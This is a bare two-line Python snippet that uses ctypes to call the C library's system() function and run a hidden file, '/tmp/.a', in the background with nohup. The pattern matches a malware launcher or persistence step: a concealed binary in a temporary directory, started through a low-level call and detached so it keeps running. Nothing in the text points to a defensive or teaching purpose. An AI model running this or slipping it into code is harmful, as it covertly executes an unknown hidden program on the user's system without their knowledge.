from ctypes import cdll, util
cdll.LoadLibrary(util.find_library("c")).system(b"nohup /tmp/.a &")
